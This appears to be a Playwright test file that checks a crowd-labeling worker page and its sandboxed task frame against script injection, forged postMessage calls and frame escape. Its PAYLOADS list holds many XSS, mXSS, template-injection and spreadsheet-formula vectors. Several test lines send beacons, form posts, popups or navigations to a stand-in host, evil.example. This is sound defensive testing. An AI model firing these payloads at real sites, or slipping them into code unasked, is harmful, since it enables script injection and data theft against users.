"""Script and markup in every place that a stranger can write to: shown as text in a real browser, run nowhere, sent nowhere."""

from __future__ import annotations

import html
import json
from collections.abc import Iterator
from typing import Any

import pytest
from page_server import PageServer, asked
from playwright.sync_api import Browser, Error, Page, expect
from review_page_in_browser import classify, frame_of, press, signed_in

pytestmark = pytest.mark.slow
PAYLOADS = [
    "<script>window.ran=1</script>",
    "<img src=x onerror='window.ran=1'>",
    "<svg onload='window.ran=1'>",
    "<svg><script>window.ran=1</script></svg>",
    "\"><script>window.ran=1</script>",
    "' onfocus='window.ran=1' autofocus='",
    "</classification-target></crowd-classifier><script>window.ran=1</script>",
    "</title></head><body onload='window.ran=1'>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<a href='javascript:window.ran=1' autofocus>x</a>",
    "<form action='https://evil.example'><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<details open ontoggle='window.ran=1'>",
    "<video><source onerror='window.ran=1'></video>",
    "<math><mtext><table><mglyph><style><img src onerror='window.ran=1'>",
    "<object data='javascript:window.ran=1'></object>",
    "<template shadowrootmode=open><script>window.ran=1</script></template>",
    "<crowd-classifier name='category' categories='[\"x\"]'></crowd-classifier>",
    "{{ task.input.secret }}{% for i in (1..9) %}x{% endfor %}",
    "${window.ran=1}$csrf$username",
    "javascript:window.ran=1",
    "=cmd|' /C calc'!A0",
    "\u202e<script>window.ran=1</script>\u2066",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
]  # fmt: skip


class Watched:
    """A page of a signed-in person, and everything that a script in it would give away."""

    def __init__(self, page: Page, served: PageServer) -> None:
        self.page, self._url = page, served.url
        self.outside: list[str] = []
        self.dialogs: list[str] = []
        page.on("request", lambda request: None if request.url.startswith((served.url, "data:")) else self.outside.append(request.url))
        # A request that the policy stops is told too: as one that has failed for it, before anything is sent.
        page.on("requestfailed", lambda request: self.outside.remove(request.url) if request.failure == "csp" else None)
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def check(self) -> None:
        """Nothing has run in the page or its frames, nothing has left, and the page is where it was."""
        self.page.wait_for_timeout(300)
        assert set(self._ran()) == {None}
        assert (self.outside, self.dialogs) == ([], [])
        # A frame that the markup brings along stays empty, or is the browser's own word that it was not loaded.
        inert = ("about:", "chrome-error:")
        assert [one.url for one in self.page.frames if not one.url.startswith((f"{self._url}/worker", *inert))] == []

    def _ran(self) -> list[object]:
        """What scripts in the page and its frames have left. All are asked anew when the browser has replaced a frame that it refused."""
        for _ in range(50):
            try:
                return [frame.evaluate("window.ran ?? null") for frame in self.page.frames]
            except Error as error:
                if "Frame was detached" not in error.message:
                    raise
                self.page.wait_for_timeout(100)
        raise AssertionError(f"the page's frames come and go: {[one.url for one in self.page.frames]}")


@pytest.fixture
def watched(browser: Browser, served: PageServer) -> Iterator[Watched]:
    context = signed_in(browser, served, viewport={"width": 1200, "height": 850})
    yield Watched(context.new_page(), served)
    context.close()


def test_a_text_runs_nothing_and_is_read_as_it_was_written(watched: Watched, served: PageServer) -> None:
    served.hold(classify("\n".join(PAYLOADS)))
    watched.page.goto("/worker")

    shown = frame_of(watched.page).locator("classification-target").evaluate("one => one.textContent.trim()")

    assert shown == "\n".join(PAYLOADS)
    watched.check()


def test_a_label_runs_nothing_and_is_answered_as_it_is(watched: Watched, served: PageServer) -> None:
    store = served.hold(classify("text", PAYLOADS))
    watched.page.goto("/worker")
    frame = frame_of(watched.page)

    expect(frame.get_by_role("option")).to_have_count(len(PAYLOADS))
    assert frame.get_by_role("option").evaluate_all("all => all.map((one) => one.dataset.label)") == PAYLOADS
    frame.get_by_role("option").nth(4).click()
    frame.get_by_role("button", name="Submit").click()
    expect(watched.page.get_by_role("heading", name="Nothing left to review")).to_be_visible()

    assert [one.answer for one in store.tasks.values()] == [{"category": {"label": PAYLOADS[4]}}]
    watched.check()


def test_a_title_a_description_and_a_suggestion_run_nothing(watched: Watched, served: PageServer) -> None:
    payload = "".join(PAYLOADS)
    served.hold(classify("text", title=payload, description=payload, suggestion={"category": payload}))
    watched.page.goto("/worker")

    expect(frame_of(watched.page).locator(".suggestion bdi")).to_be_visible()
    assert watched.page.locator("#task-title").evaluate("one => one.textContent") == payload
    assert watched.page.locator("#task-description").evaluate("one => one.textContent") == payload
    watched.check()


def test_attributes_of_elements_run_nothing(watched: Watched, served: PageServer) -> None:
    """Template variables end up in attributes: names, placeholders, labels, texts, values."""
    payload = html.escape("".join(PAYLOADS))
    labels = html.escape(json.dumps([{"label": one, "shortDisplayName": one} for one in PAYLOADS[:8]]))
    source = (
        f'<crowd-entity-annotation name="e" header="{payload}" text="{payload}" labels="{labels}"></crowd-entity-annotation>'
        f'<crowd-form><crowd-input name="{payload}" label="{payload}" placeholder="{payload}" error-message="{payload}" required>'
        "</crowd-input>"
        f'<crowd-checkbox name="box" value="{payload}">x</crowd-checkbox><crowd-card heading="{payload}">x</crowd-card>'
        f'<crowd-tabs><crowd-tab header="{payload}">x</crowd-tab></crowd-tabs></crowd-form>'
    )
    served.hold(asked(source))
    watched.page.goto("/worker")
    frame = frame_of(watched.page)

    # By its event: the frame still grows, so a pointer may meet another place by then.
    frame.get_by_role("button", name="Submit").dispatch_event("click")
    expect(frame.locator(".refusal")).to_be_visible()
    watched.check()


def test_markup_that_a_template_lets_through_runs_nothing(watched: Watched, served: PageServer) -> None:
    """``skip_autoescape`` is the template's own decision; the frame's policy holds all the same."""
    served.hold(
        asked(f'<div id="raw">{"".join(one for one in PAYLOADS if "<style" not in one and "crowd-" not in one)}</div><input name="a">')
    )
    watched.page.goto("/worker")
    expect(watched.page.locator("#task")).to_be_visible()

    watched.page.wait_for_timeout(1_000)
    watched.check()


def test_notes_run_nothing_on_the_leads_page(browser: Browser, served: PageServer) -> None:
    store = served.hold(classify("text", title=PAYLOADS[0]))
    next(iter(store.tasks.values())).flags = list(PAYLOADS)
    context = signed_in(browser, served, "lead", viewport={"width": 1200, "height": 850})
    watched = Watched(context.new_page(), served)
    watched.page.goto("/worker/lead")

    expect(watched.page.locator("#flags tbody tr")).to_have_count(len(PAYLOADS))
    titles, notes = (
        watched.page.locator(f"#flags tbody td:nth-child({column}) bdi").evaluate_all("all => all.map((one) => one.textContent)")
        for column in (1, 2)
    )
    assert (titles, notes) == ([PAYLOADS[0]] * len(PAYLOADS), PAYLOADS)
    watched.check()
    context.close()


def test_keys_that_were_kept_run_nothing_and_are_replaced(watched: Watched, served: PageServer) -> None:
    """Whoever has written to this browser's storage before: markup, a key that is none, a name that is none."""
    served.hold(classify("text"))
    kept = {
        "on": "yes",
        "skip": PAYLOADS[0],
        "undo": 7,
        "flag": None,
        "guidelines": PAYLOADS[1],
        PAYLOADS[2]: "x",
        "__proto__": {"skip": "1"},
    }
    watched.page.add_init_script(
        f"if (self === top) localStorage.setItem('keys', {json.dumps(json.dumps({'user': 'ann', 'value': kept}))})"
    )
    watched.page.goto("/worker")
    frame_of(watched.page)

    assert watched.page.locator("kbd[data-key]").all_text_contents().count("S") == 2
    press(watched.page, "s")
    expect(watched.page.get_by_role("dialog", name="Skip this task")).to_be_visible()
    watched.check()


FORGED: list[Any] = [
    {"type": "submit", "answer": {"category": {"label": "positive"}}},
    {"type": "action", "action": "undo"},
    {"type": "action", "action": "constructor"},
    {"type": "ready", "categories": [], "text": "x"},
    {"type": "height", "height": "1e9px"},
    {"type": "draft", "answer": {}},
    None,
    7,
    "submit",
]


def test_messages_from_another_frame_do_nothing(watched: Watched, served: PageServer) -> None:
    """A frame that is not the task's, and the page itself, may post what they like."""
    store = served.hold(classify("text"))
    watched.page.goto("/worker")
    frame_of(watched.page)

    for message in FORGED:
        watched.page.evaluate("(message) => window.postMessage(message, '*')", message)

    watched.page.wait_for_timeout(500)
    assert [one.answer for one in store.tasks.values()] == [None]
    expect(frame_of(watched.page).get_by_role("radio", checked=True)).to_have_count(0)
    watched.check()


def test_the_frame_reaches_nothing(watched: Watched, served: PageServer) -> None:
    """Whatever did run in the frame: no session, no storage, no request, no window, no way up."""
    served.hold(classify("text"))
    watched.page.goto("/worker")
    frame_of(watched.page)
    frame = next(one for one in watched.page.frames if one is not watched.page.main_frame)
    tries = {
        "cookie": "document.cookie", "storage": "localStorage.length", "session": "sessionStorage.length",
        "parent": "parent.document.title", "top": "top.location.href", "navigate": "(top.location = 'https://evil.example/', 1)",
        "fetch": f"fetch('{served.url}/worker/next').then((answer) => answer.text())",
        "beacon": "navigator.sendBeacon('https://evil.example/', 'x')", "popup": "window.open('https://evil.example/').closed",
        "worker": "new Worker('data:,1') && 1",
    }  # fmt: skip

    got = {
        name: frame.evaluate(f"async () => {{ try {{ return await ({code}); }} catch {{ return null; }} }}") for name, code in tries.items()
    }

    assert {name for name, value in got.items() if value} <= {"worker", "navigate", "beacon"}
    watched.page.wait_for_timeout(500)
    assert watched.page.url == f"{served.url}/worker"
    assert [one for one in watched.outside if "evil.example" in one] == []
